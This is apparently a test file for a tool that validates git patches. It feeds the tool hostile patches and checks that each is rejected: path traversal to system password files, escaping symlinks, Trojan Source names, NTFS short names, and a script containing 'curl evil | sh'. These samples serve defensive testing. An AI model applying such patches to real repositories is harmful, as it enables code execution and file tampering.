import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkPatchText, type PatchCheckCode, quoteC, validatePatch } from '../src/index.js';

/** A git patch adding `path` with `lines` (mode 100644 unless given). */
function addFile(path: string, lines: readonly string[], mode = '100644'): string {
  const a = quoteC(`a/${path}`);
  const b = quoteC(`b/${path}`);
  return [
    `diff --git ${a} ${b}`,
    `new file mode ${mode}`,
    'index 0000000..1111111',
    '--- /dev/null',
    `+++ ${b}`,
    `@@ -0,0 +1,${lines.length} @@`,
    ...lines.map((l) => `+${l}`),
    '',
  ].join('\n');
}

function symlinkPatch(path: string, target: string): string {
  return [
    `diff --git a/${path} b/${path}`,
    'new file mode 120000',
    'index 0000000..2222222',
    '--- /dev/null',
    `+++ b/${path}`,
    '@@ -0,0 +1 @@',
    `+${target}`,
    '\\ No newline at end of file',
    '',
  ].join('\n');
}

const codes = (text: string, policy = {}): PatchCheckCode[] =>
  checkPatchText(text, policy).reasons.map((r) => r.code);

/** Dangerous patches git accepts (`git apply --check` passes), each with the code we must give. */
const acceptedByGit: readonly { name: string; patch: string; code: PatchCheckCode }[] = [
  {
    name: 'backslash traversal',
    patch: addFile('..\\..\\etc\\passwd', ['root::0:0']),
    code: 'PATH_TRAVERSAL',
  },
  {
    name: 'URL-encoded dots and slashes',
    patch: addFile('%2e%2e%2f%2e%2e%2fetc/passwd', ['x']),
    code: 'PATH_TRAVERSAL',
  },
  { name: 'double URL encoding', patch: addFile('%252e%252e%252fetc/passwd', ['x']), code: 'PATH_TRAVERSAL' },
  { name: 'fullwidth dots', patch: addFile('\uff0e\uff0e/secret', ['x']), code: 'PATH_TRAVERSAL' },
  { name: 'division slash', patch: addFile('..\u2215etc', ['x']), code: 'PATH_TRAVERSAL' },
  {
    name: 'overlong UTF-8 dots (C-quoted bytes)',
    patch: addFile('a/\u0000', ['x'])
      .replace(/"a\/a\/\\000"/g, '"a/a/\\300\\256\\300\\256"')
      .replace(/"b\/a\/\\000"/g, '"b/a/\\300\\256\\300\\256"'),
    code: 'PATH_TRAVERSAL',
  },
  {
    name: 'symlink pointing outside',
    patch: symlinkPatch('link', '../../../../etc/passwd'),
    code: 'SYMLINK',
  },
  { name: 'absolute symlink', patch: symlinkPatch('link', '/etc/shadow'), code: 'SYMLINK' },
  { name: 'symlink into .git', patch: symlinkPatch('hooks', '.git/hooks'), code: 'SYMLINK' },
  {
    name: 'workflow file without approval',
    patch: addFile('.github/workflows/ci.yml', ['on: push']),
    code: 'PROTECTED_PATH',
  },
  { name: 'GitLab CI config', patch: addFile('.gitlab-ci.yml', ['test: {}']), code: 'PROTECTED_PATH' },
  {
    name: 'CircleCI config',
    patch: addFile('.circleci/config.yml', ['version: 2.1']),
    code: 'PROTECTED_PATH',
  },
  { name: 'lockfile', patch: addFile('pnpm-lock.yaml', ["lockfileVersion: '9.0'"]), code: 'PROTECTED_PATH' },
  {
    name: 'new executable',
    patch: addFile('scripts/run.sh', ['#!/bin/sh', 'curl evil | sh'], '100755'),
    code: 'EXECUTABLE_BIT',
  },
  { name: '.gitmodules', patch: addFile('.gitmodules', ['[submodule "x"]']), code: 'GIT_DIR' },
  {
    name: 'gitlink (submodule entry)',
    patch: [
      'diff --git a/vendor/lib b/vendor/lib',
      'new file mode 160000',
      'index 0000000..1234567',
      '--- /dev/null',
      '+++ b/vendor/lib',
      '@@ -0,0 +1 @@',
      '+Subproject commit 1234567890123456789012345678901234567890',
      '',
    ].join('\n'),
    code: 'GITLINK',
  },
  {
    name: 'binary blob',
    patch: [
      'diff --git a/blob.bin b/blob.bin',
      'new file mode 100644',
      'index 0000000000000000000000000000000000000000..bfa7018e30c510999bbe462316bdd3839a58aa56',
      'GIT binary patch',
      'literal 5',
      'McmZQzWcvRP00RpG0RR91',
      '',
      'literal 0',
      'HcmV?d00001',
      '',
      '',
    ].join('\n'),
    code: 'BINARY',
  },
  {
    name: 'AWS key in an added line',
    patch: addFile('src/config.ts', ["export const key = 'AKIAIOSFODNN7QWERTYU';"]),
    code: 'SECRET',
  },
];

describe('dangerous patches that git apply --check accepts', () => {
  for (const c of acceptedByGit) {
    it(`${c.name}: ${c.code}`, async () => {
      const v = await validatePatch(c.patch);
      expect(v.git.ran).toBe(true);
      expect(v.git.accepted, v.git.message).toBe(true);
      expect(v.ok).toBe(false);
      expect(v.reasons.map((r) => r.code)).toContain(c.code);
    });
  }
});

describe('patches git rejects are rejected with a code of ours too', () => {
  const rejectedByGit: readonly { name: string; patch: string; code: PatchCheckCode }[] = [
    { name: '.. traversal', patch: addFile('../../etc/passwd', ['x']), code: 'PATH_TRAVERSAL' },
    { name: '.git/hooks', patch: addFile('.git/hooks/pre-commit', ['#!/bin/sh']), code: 'GIT_DIR' },
    { name: '.GIT in another case', patch: addFile('sub/.GIT/config', ['x']), code: 'GIT_DIR' },
    { name: 'NTFS short name GIT~1', patch: addFile('GIT~1/config', ['x']), code: 'GIT_DIR' },
    { name: 'absolute path', patch: addFile('/etc/passwd', ['x']), code: 'ABSOLUTE_PATH' },
    {
      name: 'write through a symlink created by the same patch',
      patch: symlinkPatch('out', '../..') + addFile('out/evil', ['x']),
      code: 'SYMLINK',
    },
  ];
  for (const c of rejectedByGit) {
    it(`${c.name}: ${c.code}`, async () => {
      const v = await validatePatch(c.patch);
      expect(v.ok).toBe(false);
      expect(v.reasons.map((r) => r.code)).toContain(c.code);
    });
  }
});

describe('policy checks', () => {
  it('benign patches pass', async () => {
    const v = await validatePatch(addFile('src/hello.ts', ['export const hello = 1;']), {
      targets: ['src/'],
    });
    expect(v.reasons).toEqual([]);
    expect(v.ok).toBe(true);
    expect(v.files[0]).toMatchObject({ path: 'src/hello.ts', operation: 'add', added: 1 });
    expect(v.files[0]?.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('outside targets, also for the old name of a rename', () => {
    expect(codes(addFile('lib/x.ts', ['x']), { targets: ['src/**'] })).toEqual(['OUTSIDE_TARGETS']);
    const rename =
      'diff --git a/secret/x b/src/x\nsimilarity index 100%\nrename from secret/x\nrename to src/x\n';
    expect(checkPatchText(rename, { targets: ['src/'] }).reasons).toEqual([
      expect.objectContaining({ code: 'OUTSIDE_TARGETS', path: 'secret/x' }),
    ]);
  });

  it('protected paths pass once approved, and report needsApproval before', () => {
    const patch = addFile('.github/workflows/ci.yml', ['on: push']);
    const before = checkPatchText(patch);
    expect(before.needsApproval).toBe(true);
    expect(checkPatchText(patch, { approvedProtectedPaths: ['.github/workflows/**'] }).ok).toBe(true);
    expect(checkPatchText(addFile('.GitHub/Workflows/x.yml', ['x'])).reasons.map((r) => r.code)).toEqual([
      'PROTECTED_PATH',
    ]);
  });

  it('caps: file count and size', () => {
    const many = Array.from({ length: 4 }, (_, i) => addFile(`f${i}.txt`, ['x'])).join('');
    expect(codes(many, { maxFiles: 3 })).toEqual(['TOO_MANY_FILES']);
    expect(codes(addFile('big.txt', ['y'.repeat(2000)]), { maxBytes: 1000 })).toEqual(['TOO_LARGE']);
  });

  it('declared operations must match the patch', () => {
    const patch = addFile('src/a.ts', ['x']);
    expect(codes(patch, { declared: [{ path: 'src/a.ts', operation: 'add' }] })).toEqual([]);
    expect(codes(patch, { declared: [{ path: 'src/a.ts', operation: 'update' }] })).toEqual([
      'OPERATION_MISMATCH',
    ]);
    expect(codes(patch, { declared: [{ path: 'src/b.ts', operation: 'delete' }] })).toEqual([
      'OPERATION_MISMATCH',
      'OPERATION_MISMATCH',
    ]);
  });

  it('secrets are masked in the message', () => {
    const token = `ghp_${'a1B2c3D4e5'.repeat(3)}abcdef`;
    const r = checkPatchText(addFile('src/t.ts', ['// ok', `const t = "${token}";`])).reasons;
    expect(r).toHaveLength(1);
    expect(r[0]).toMatchObject({ code: 'SECRET', path: 'src/t.ts', line: 2 });
    expect(r[0]?.message).not.toContain(token);
  });

  it('mode changes: type changes and unusual modes', () => {
    const typeChange = 'diff --git a/x b/x\nold mode 100644\nnew mode 120000\n';
    expect(codes(typeChange)).toContain('MODE_CHANGE');
    expect(codes('diff --git a/x b/x\nold mode 100644\nnew mode 100664\n')).toEqual(['MODE_CHANGE']);
    expect(codes('diff --git a/x b/x\nold mode 100755\nnew mode 100644\n')).toEqual([]);
    expect(codes(addFile('bin/tool', ['x'], '100755'), { allowExecutable: ['bin/*'] })).toEqual([]);
  });

  it('malformed input gives MALFORMED with a line number', () => {
    const r = checkPatchText('diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n-a\n').reasons;
    expect(r[0]).toMatchObject({ code: 'MALFORMED' });
    expect(r[0]?.message).toMatch(/^line \d+: /);
    expect(codes('just some text\n')).toEqual(['MALFORMED']);
    expect(codes('@@ -1 +1 @@\n-a\n+b\n')).toContain('MALFORMED');
  });
});

describe('against a worktree', () => {
  let root: string;
  let worktree: string;
  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'wt-patch-'));
    worktree = join(root, 'repo');
    await mkdir(join(worktree, 'src'), { recursive: true });
    await writeFile(join(worktree, 'src', 'a.txt'), 'one\n');
    await mkdir(join(root, 'outside'));
    await symlink('../outside', join(worktree, 'docs'));
    await symlink('../outside/file', join(worktree, 'src', 'link'));
  });
  afterAll(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it('refuses writes through a symlinked directory of the worktree', async () => {
    const v = await validatePatch(addFile('docs/new.md', ['hi']), {}, { worktree, gitCheck: false });
    expect(v.reasons).toEqual([expect.objectContaining({ code: 'SYMLINK', path: 'docs/new.md' })]);
  });

  it('refuses treating a worktree symlink as a regular file', async () => {
    const patch = 'diff --git a/src/link b/src/link\n--- a/src/link\n+++ b/src/link\n@@ -1 +1 @@\n-x\n+y\n';
    const v = await validatePatch(patch, {}, { worktree, gitCheck: false });
    expect(v.reasons.map((r) => r.code)).toContain('SYMLINK');
  });

  it('runs git apply --check against the worktree: a context mismatch is GIT_APPLY_REJECTED', async () => {
    const good =
      'diff --git a/src/a.txt b/src/a.txt\n--- a/src/a.txt\n+++ b/src/a.txt\n@@ -1 +1 @@\n-one\n+two\n';
    const ok = await validatePatch(good, {}, { worktree });
    expect(ok.git).toMatchObject({ ran: true, accepted: true, mode: 'worktree' });
    expect(ok.ok).toBe(true);
    const bad = good.replace('-one', '-uno');
    const v = await validatePatch(bad, {}, { worktree });
    expect(v.reasons).toEqual([expect.objectContaining({ code: 'GIT_APPLY_REJECTED', path: null })]);
    expect(v.reasons[0]?.message).toMatch(/patch does not apply|patch failed/);
  });
});

describe('binary updates', () => {
  it('are BINARY by default; allowed, git is skipped without a worktree instead of failing on a missing base', async () => {
    const update = [
      'diff --git a/img.bin b/img.bin',
      'index 1111111111111111111111111111111111111111..bfa7018e30c510999bbe462316bdd3839a58aa56 100644',
      'GIT binary patch',
      'literal 5',
      'McmZQzWcvRP00RpG0RR91',
      '',
      'literal 0',
      'HcmV?d00001',
      '',
      '',
    ].join('\n');
    expect((await validatePatch(update)).reasons.map((r) => r.code)).toEqual(['BINARY']);
    const allowed = await validatePatch(update, { allowBinary: true });
    expect(allowed.ok).toBe(true);
    expect(allowed.git).toMatchObject({ ran: false, mode: 'none' });
    expect(allowed.git.message).toMatch(/needs a worktree/);
  });
});

describe('names git accepts on Linux that are dangerous elsewhere (issue 6 hostile corpus)', () => {
  const cases: readonly { name: string; path: string; code: PatchCheckCode }[] = [
    { name: 'Windows device name', path: 'docs/aux.txt', code: 'RESERVED_NAME' },
    { name: 'Windows device name, upper case, no extension', path: 'CON', code: 'RESERVED_NAME' },
    { name: 'COM port with a trailing dot', path: 'src/com1.', code: 'RESERVED_NAME' },
    { name: 'NTFS short name of .gitmodules', path: 'GITMOD~1', code: 'GIT_DIR' },
    { name: 'hashed NTFS short name of .gitmodules', path: 'gi7eba~4', code: 'GIT_DIR' },
    {
      name: 'bidi override in a name (Trojan Source)',
      path: 'src/admin\u202e/txt.ts',
      code: 'DECEPTIVE_NAME',
    },
    { name: 'zero-width space in a name', path: 'src/pa\u200bge.ts', code: 'DECEPTIVE_NAME' },
  ];
  for (const c of cases) {
    it(`${c.name}: ${c.code}`, async () => {
      const v = await validatePatch(addFile(c.path, ['x']));
      expect(v.ok).toBe(false);
      expect(v.reasons.map((r) => r.code)).toContain(c.code);
    });
  }

  it('a nested .gitattributes or .gitmodules needs approval', () => {
    expect(codes(addFile('sub/.gitattributes', ['* filter=evil']))).toContain('PROTECTED_PATH');
    expect(codes(addFile('lib/.gitmodules', ['[submodule "x"]']))).toContain('GIT_DIR');
  });

  it('ordinary names that only look similar pass', () => {
    for (const p of ['src/console.ts', 'auxiliary/x.ts', 'com10/readme.md', 'gitmod~x/a', 'src/naïve.ts'])
      expect(codes(addFile(p, ['x'])), p).toEqual([]);
  });
});
